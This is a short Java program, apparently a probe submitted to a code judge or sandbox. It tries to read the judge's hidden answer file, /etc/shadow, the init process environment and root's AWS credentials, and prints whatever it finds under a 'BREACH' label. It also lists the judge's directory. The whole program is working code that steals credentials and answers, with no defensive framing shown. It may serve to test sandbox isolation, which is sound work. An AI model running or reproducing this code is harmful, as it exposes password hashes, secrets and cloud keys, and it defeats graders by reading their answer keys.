import java.nio.file.*;
import java.util.*;
public class Main {
    public static void main(String[] args) {
        String target = new Scanner(System.in).next();
        for (String path : List.of(target + "/secret/001.ans", "/etc/shadow", "/proc/1/environ", "/root/.aws/credentials"))
            try { System.out.println("BREACH " + path + Files.readString(Path.of(path))); } catch (Exception e) { }
        try (var names = Files.list(Path.of(target))) { System.out.println("BREACH " + names.count()); } catch (Exception e) { }
        System.out.println("done");
    }
}
